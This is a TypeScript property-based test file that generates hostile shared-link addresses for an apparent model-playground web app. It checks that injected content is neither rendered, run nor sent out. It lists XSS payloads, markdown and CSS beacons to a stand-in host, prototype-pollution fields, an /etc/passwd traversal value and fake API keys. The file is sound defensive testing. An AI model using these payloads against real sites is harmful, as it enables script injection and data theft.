import { deflateSync } from "node:zlib";
import fc from "fast-check";
import { PARAMETER_KEYS } from "@/lib/catalog/parameters";

/** What every hostile text holds, so that it can be looked for where it must not be. */
export const CANARY = "CANARY-9f3c";

const FOREIGN = "http://foreign.test";
/** Texts that are harmless where text is text. */
const TEXTS = [
  `<script>alert("${CANARY}")</script>`,
  `<img src=x onerror=alert(1)>${CANARY}`,
  `<svg onload=alert(1)>${CANARY}`,
  `<iframe srcdoc="<script>parent.alert(1)</script>">${CANARY}`,
  `"><img src="${FOREIGN}/${CANARY}">`,
  `![${CANARY}](${FOREIGN}/pixel.png?q=${CANARY})`,
  `[${CANARY}](javascript:alert(1))`,
  `[x]: ${FOREIGN}/${CANARY}\n\n![x]`,
  `<style>@import "${FOREIGN}/${CANARY}.css";</style>`,
  `<link rel=stylesheet href=${FOREIGN}/${CANARY}>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/${CANARY}">`,
  `<form action="${FOREIGN}"><button autofocus>${CANARY}</button></form>`,
  `<a href="${FOREIGN}" ping="${FOREIGN}" autofocus onfocus=alert(1)>${CANARY}</a>`,
  `{{constructor.constructor("alert(1)")()}} ${CANARY}`,
  `\${alert(1)} ${CANARY}`,
  `'-alert(1)-' ${CANARY}`,
  `</textarea><script>alert(1)</script>${CANARY}`,
  `\u202E\u0000\uFEFF\uD800 ${CANARY}`,
  `Bearer sk-${CANARY}`,
  "__proto__",
  `data:text/html,<script>alert(1)</script>${CANARY}`,
  `//foreign.test/${CANARY}`,
  `${CANARY} `.repeat(300),
  "> ".repeat(2000) + CANARY,
];
const text = fc.constantFrom(...TEXTS);
const model = fc.constantFrom(
  "built-in/sprout",
  "openai/gpt-4o-mini",
  "huggingface/a/b",
  "javascript:alert/1",
  "http:/foreign.test/v1",
  "foreign.test:80/v1",
  "__proto__/x",
  "constructor",
);
const short = text.map((each) => each.slice(0, 200));
const json = fc.letrec((tie) => ({
  value: fc.oneof({ maxDepth: 3 }, text, fc.integer(), fc.constant(null), tie("list"), tie("object")),
  list: fc.array(tie("value"), { maxLength: 3 }),
  object: fc.dictionary(fc.constantFrom("url", "headers", "authorization", "tools", "a"), tie("value"), {
    maxKeys: 3,
    noNullPrototype: true,
  }),
}));
const parameters = fc.record(
  {
    temperature: fc.constantFrom(0, 2),
    seed: fc.nat(),
    maxOutputTokens: fc.constantFrom(1, 1_000_000),
    stop: fc.array(short, { minLength: 1, maxLength: 4 }),
    extraBody: json.object,
    logitBias: fc.constant({ "5": 100 }),
    jsonSchema: fc.constant({ type: "object", description: TEXTS[0] }),
  },
  { requiredKeys: [], noNullPrototype: true },
);
const message = fc.record({ role: fc.constantFrom("user", "assistant"), content: text });
const wireMessage = fc.record({ role: fc.constantFrom("system", "user", "assistant", "x"), content: text });
const answer = fc.record(
  {
    text,
    reasoning: text,
    ending: fc.constantFrom("complete", "length", "content_filter", "stopped", "cut"),
    at: fc.constantFrom(1, 8_640_000_000_000_000),
    model,
    servedModel: short,
    turn: fc.constant(0),
    series: fc.nat(2),
    sent: fc.record({
      body: fc.oneof(
        fc.record({ messages: fc.array(wireMessage, { maxLength: 3 }), more: json.object }),
        fc.record({ input: fc.array(wireMessage, { maxLength: 3 }), instructions: text }),
        json.object,
      ),
      seed: fc.nat(),
      leftOut: fc.array(
        fc.record({
          parameter: fc.constantFrom(...PARAMETER_KEYS),
          code: fc.constantFrom("notTaken", "needsOther", "valueNotTaken"),
          values: fc.record({ other: short, value: fc.constant("v") }),
        }),
        { maxLength: 2 },
      ),
    }),
    tokens: fc.array(fc.record({ text: short, logprob: fc.constantFrom(0, -1e300, 5) }), { maxLength: 3 }),
    pace: fc.constantFrom([1, 1], [1e15, -5]),
  },
  { requiredKeys: ["text", "ending"], noNullPrototype: true },
);
const document = fc.record(
  {
    fader: fc.constant(1),
    title: short,
    system: text,
    message: text,
    turns: fc.array(message, { minLength: 1, maxLength: 3 }),
    variables: fc.array(fc.record({ name: short.map((each) => each.slice(0, 60)), value: text }), {
      minLength: 1,
      maxLength: 1,
    }),
    panes: fc.array(
      fc.record(
        {
          model,
          parameters,
          system: text,
          turns: fc.array(message, { maxLength: 2 }),
          answers: fc.array(answer, { minLength: 1, maxLength: 3 }),
        },
        { requiredKeys: ["model", "parameters"], noNullPrototype: true },
      ),
      { minLength: 1, maxLength: 3 },
    ),
    view: fc.constantFrom("plain", "markdown"),
    times: fc.constantFrom(2, 100),
    lock: fc.constant(["temperature"]),
  },
  { requiredKeys: ["fader", "title", "system", "message", "turns", "panes", "view"], noNullPrototype: true },
);

/** Fields that a link must not have, and what it would ask for with them. */
const EXTRAS = [
  '"run":true',
  '"runAsIMove":true',
  '"autoRun":1',
  `"apiKey":"sk-${CANARY}"`,
  `"baseUrl":"${FOREIGN}"`,
  `"url":"${FOREIGN}"`,
  '"__proto__":{"isAdmin":true}',
  '"constructor":{"prototype":{"isAdmin":true}}',
  '"room":"x"',
  '"tools":[]',
  '"id":"p1"',
];
/** Values that are out of bounds, in the place of such as are not. */
const SWAPS: [RegExp, string][] = [
  [/"fader":1/, '"fader":2'],
  [/"panes":\[/, '"panes":[null,'],
  [/"turns":\[/, '"turns":[{"role":"system","content":"x"},'],
  [/"model":"[^"]*"/, '"model":"built-in/../../etc/passwd"'],
  [/"model":"[^"]*"/, '"model":"https://foreign.test/?q="'],
  [/"parameters":\{/, '"parameters":{"temperature":1e9,'],
  [/"parameters":\{/, '"parameters":{"extraBody":{"model":"x","stream":false},'],
  [/"view":"\w+"/, '"view":"html"'],
  [/"message":"/, `"message":"${"x".repeat(150_000)}`],
];
const twist = fc.oneof(
  fc.tuple(fc.constantFrom(...EXTRAS), fc.nat(30)).map(([field, place]) => (written: string) => {
    const braces = [...written.matchAll(/\{"/g)].map(({ index }) => index + 1);
    const at = braces[place % braces.length] ?? 1;
    return `${written.slice(0, at)}${field},${written.slice(at)}`;
  }),
  fc.constantFrom(...SWAPS).map(
    ([from, to]) =>
      (written: string) =>
        written.replace(from, () => to),
  ),
);

const ADDRESSES: ((link: string) => string)[] = [
  (link) => `/#e=${link}`,
  (link) => `/?run=1&autosend=true&q=hello#e=${link}`,
  (link) => `/?e=1.AAAA#e=${link}`,
  (link) => `/#e=${link}&run=1`,
  (link) => `/#e=${link}#run=1`,
];

/** Addresses made by people who want something run, sent or shown that nobody pressed for: half of them of the right form. */
export const hostileAddress: fc.Arbitrary<string> = fc
  .tuple(
    document,
    fc.option(twist, { nil: (written: string) => written, freq: 2 }),
    fc.constantFrom(...ADDRESSES.slice(0, 3), ...ADDRESSES),
  )
  .map(([made, change, address]) => {
    const written = change(JSON.stringify(made));
    return address(`1.${deflateSync(written, { level: 9 }).toString("base64url")}`);
  });
